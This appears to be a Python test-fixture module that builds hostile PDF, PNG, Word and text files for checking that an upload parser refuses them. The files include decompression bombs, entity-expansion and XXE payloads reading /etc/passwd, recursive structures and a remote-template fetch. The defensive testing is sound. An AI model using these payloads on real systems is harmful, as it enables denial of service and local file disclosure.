"""Files that want to hurt their reader, built when a test asks for them: one function each, one table.

A new specimen is a function that returns its bytes and a line in `SPECIMENS`.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Final, NamedTuple

_W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONSHIPS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_TEMPLATE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_MEGABYTE: Final = 1 << 20
_FORM: Final = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "


class Specimen(NamedTuple):
    """How a file is made, the name that it comes under, and the reasons it may be refused for."""

    build: Callable[[], bytes]
    name: str
    reasons: tuple[str, ...]


# PDF


def pdf(*objects: bytes) -> bytes:
    """A PDF of numbered objects, the first of them its catalogue."""
    target = io.BytesIO(b"%PDF-1.7\n")
    target.seek(0, io.SEEK_END)
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(target.tell())
        target.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = target.tell()
    target.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    target.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    target.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return target.getvalue()


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object with its dictionary."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def page_of(content: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """A PDF of one page that draws the stream object `content`."""
    font = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << %s %s >> >>" % (font, resources)
    )
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        content,
        *more,
    )


@cache
def zeros(megabytes: int, letter: bytes = b" ") -> bytes:
    """So many megabytes of one letter, deflated without ever being held."""
    packer = zlib.compressobj(9)
    pieces = [packer.compress(letter * _MEGABYTE) for _ in range(megabytes)]
    return b"".join([*pieces, packer.flush()])


def flate_bomb() -> bytes:
    """300 MB of blanks drawn on a page."""
    return page_of(stream(zeros(300), b"/Filter /FlateDecode"))


def nested_flate_bomb() -> bytes:
    """About one kilobyte that inflates twice, to 300 MB."""
    return page_of(stream(zlib.compress(zeros(300), 9), b"/Filter [/FlateDecode /FlateDecode]"))


def flate_bomb_by_reference() -> bytes:
    """The same, its filters named elsewhere in the file."""
    return page_of(stream(zlib.compress(zeros(300), 9), b"/Filter 5 0 R"), b"[/FlateDecode /FlateDecode]")


def flate_bomb_in_ascii() -> bytes:
    """300 MB behind a filter that only spells bytes out."""
    return page_of(stream(zeros(300).hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]"))


def object_stream_bomb() -> bytes:
    """A compressed stream of objects that inflates to 300 MB, with the catalogue in it."""
    head = b"1 0 2 40 "
    body = head + b"<< /Type /Catalog /Pages 2 0 R >>".ljust(40) + b"<< /Type /Pages /Kids [] /Count 0 >>"
    packer = zlib.compressobj(9)
    packed = packer.compress(body) + b"".join(packer.compress(b" " * _MEGABYTE) for _ in range(300))
    packed += packer.flush()
    objects = stream(packed, b"/Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % len(head))
    target = io.BytesIO()
    target.write(b"%PDF-1.7\n3 0 obj\n" + objects + b"\nendobj\n")
    start = target.tell()
    rows = [(0, 0, 65535), (2, 3, 0), (2, 3, 1), (1, 9, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    entries = b"/Type /XRef /W [1 4 2] /Size 5 /Root 1 0 R"
    target.write(b"4 0 obj\n" + stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return target.getvalue()


def cross_reference_loop() -> bytes:
    """A table of objects whose previous version is itself."""
    plain = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    start = plain.index(b"xref\n")
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def page_tree_loop() -> bytes:
    """Pages whose children are the pages themselves."""
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 100000 >>")


def form_loop() -> bytes:
    """A drawing that draws itself twice."""
    form = stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    return page_of(stream(b"/X Do"), form, resources=b"/XObject << /X 5 0 R >>")


def form_doubling() -> bytes:
    """Thirty drawings, each of which draws the next one twice: a thousand million in all."""

    def form(number: int) -> bytes:
        entries = b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1)
        return stream(b"/X Do /X Do", _FORM + entries)

    last = stream(b"BT (x) Tj ET", _FORM)
    forms = [form(number) for number in range(5, 34)]
    return page_of(stream(b"/X Do"), *forms, last, resources=b"/XObject << /X 5 0 R >>")


def hundred_thousand_pages() -> bytes:
    """Ten to the fifth pages, each an object."""
    count = 100_000
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        *([page] * count),
    )


def deep_arrays() -> bytes:
    """A million brackets inside each other."""
    return page_of(stream(b"BT ET"), b"[" * 1_000_000 + b"]" * 1_000_000, resources=b"/Deep 5 0 R")


def ten_million_words() -> bytes:
    """A small file that writes the same word ten million times."""
    words = b"BT /F1 9 Tf " + b"(abcdefgh) Tj " * 1000
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(words) for _ in range(10_000)), packer.flush()])
    return page_of(stream(packed, b"/Filter /FlateDecode"))


def picture_flood_in_pdf() -> bytes:
    """A page that is one picture of 10⁹ pixels."""
    image = stream(
        zeros(954, b"\0"),
        b"/Type /XObject /Subtype /Image /Width 50000 /Height 20000 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Filter /FlateDecode",
    )
    return page_of(stream(b"595 0 0 842 0 0 cm /I Do"), image, resources=b"/XObject << /I 5 0 R >>")


def picture_flood() -> bytes:
    """A PNG of 10⁹ pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", 50_000, 20_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zeros(954, b"\0")) + chunk(b"IEND", b"")
    )


# Word


def word(body: str | bytes, head: str = "", **parts: str) -> bytes:
    """A Word file with this body; keys name parts beside it, with ``_`` for a slash."""
    inner = body.encode() if isinstance(body, str) else body
    start = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}"><w:body>'.encode()
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", start + inner + b"</w:body></w:document>")
        for name, content in parts.items():
            archive.writestr(f"word/{name.replace('__', '/')}", content)
    return target.getvalue()


def paragraph(text: str) -> str:
    """A paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def three_million_paragraphs() -> bytes:
    """Three million paragraphs in a few hundred kilobytes."""
    letters = b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % (number % 97) for number in range(10_000))
    return word(letters * 300)


def three_million_empty_paragraphs() -> bytes:
    """The same, nearly all as short as can be, and just varied enough not to look like a bomb."""
    some = b"".join(b"<w:p w:rsidR='%05d'/>" % number + b"<w:p/>" * 59 for number in range(50_000))
    return word(some)


def billion_laughs() -> bytes:
    """Entities that stand for ten of the next."""
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return word(paragraph("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>')


def quadratic_entity() -> bytes:
    """One long entity, called many times."""
    return word(paragraph("&a;" * 50_000), f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>')


def external_entity() -> bytes:
    """An entity that is a file of this machine."""
    return word(paragraph("&x;"), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def ratio_bomb() -> bytes:
    """A body of 300 MB of blanks."""
    return word(b" " * (300 * _MEGABYTE))


def lying_sizes() -> bytes:
    """A body of 300 MB that the archive announces as ten bytes."""
    content = ratio_bomb()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.infolist()[0].file_size
    return content.replace(struct.pack("<I", size), struct.pack("<I", 10))


def hundred_thousand_parts() -> bytes:
    """Ten to the fifth parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/document.xml", word(paragraph("x")))
        for number in range(100_000):
            archive.writestr(f"word/{number}", b"")
    return target.getvalue()


def deep_elements() -> bytes:
    """Tables inside tables, five thousand deep."""
    depth = 5_000
    return word("<w:tbl><w:tr><w:tc>" * depth + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth)


def external_template() -> bytes:
    """A template that is somewhere else, as an attacker would have Word fetch it."""
    relations = (
        f'<Relationships xmlns="{_RELATIONSHIPS}"><Relationship Id="r1" Type="{_TEMPLATE}"'
        ' Target="https://example.org/template.dotm" TargetMode="External"/></Relationships>'
    )
    settings = f'<w:settings xmlns:w="{_W}"/>'
    parts = {"settings.xml": settings, "_rels__settings.xml.rels": relations}
    return word(paragraph("Contrat de prestations"), **parts)


# Text


def endless_line() -> bytes:
    """Thirty million letters without a line end."""
    return b"a" * 30_000_000


def line_of_bars() -> bytes:
    """A Markdown table of a million columns."""
    return b"|a" * 1_000_000 + b"|\n" + b"|-" * 1_000_000 + b"|\n" + b"|b" * 1_000_000 + b"|\n"


TOO_MUCH: Final = ("too_large", "memory")

SPECIMENS: Final = {
    "flate-bomb": Specimen(flate_bomb, "a.pdf", TOO_MUCH),
    "nested-flate-bomb": Specimen(nested_flate_bomb, "a.pdf", TOO_MUCH),
    "flate-bomb-by-reference": Specimen(flate_bomb_by_reference, "a.pdf", TOO_MUCH),
    "flate-bomb-in-ascii": Specimen(flate_bomb_in_ascii, "a.pdf", TOO_MUCH),
    "object-stream-bomb": Specimen(object_stream_bomb, "a.pdf", TOO_MUCH),
    "form-loop": Specimen(form_loop, "a.pdf", TOO_MUCH),
    "form-doubling": Specimen(form_doubling, "a.pdf", TOO_MUCH),
    "ten-million-words": Specimen(ten_million_words, "a.pdf", (*TOO_MUCH, "limit_characters")),
    "cross-reference-loop": Specimen(cross_reference_loop, "a.pdf", ("malformed",)),
    "page-tree-loop": Specimen(page_tree_loop, "a.pdf", ("limit_pages",)),
    "hundred-thousand-pages": Specimen(hundred_thousand_pages, "a.pdf", ("limit_pages",)),
    "deep-arrays": Specimen(deep_arrays, "a.pdf", ("no_text",)),
    "picture-flood-in-pdf": Specimen(picture_flood_in_pdf, "a.pdf", (*TOO_MUCH, "no_text")),
    "picture-flood": Specimen(picture_flood, "a.pdf", ("wrong_type",)),
    "three-million-paragraphs": Specimen(three_million_paragraphs, "a.docx", TOO_MUCH),
    "three-million-empty-paragraphs": Specimen(three_million_empty_paragraphs, "a.docx", TOO_MUCH),
    "billion-laughs": Specimen(billion_laughs, "a.docx", ("doctype",)),
    "quadratic-entity": Specimen(quadratic_entity, "a.docx", ("doctype",)),
    "external-entity": Specimen(external_entity, "a.docx", ("doctype",)),
    "ratio-bomb": Specimen(ratio_bomb, "a.docx", ("too_large",)),
    "lying-sizes": Specimen(lying_sizes, "a.docx", ("malformed", "too_large")),
    "hundred-thousand-parts": Specimen(hundred_thousand_parts, "a.docx", ("too_large",)),
    "deep-elements": Specimen(deep_elements, "a.docx", ("malformed",)),
    "endless-line": Specimen(endless_line, "a.txt", ("too_large",)),
}  # fmt: skip
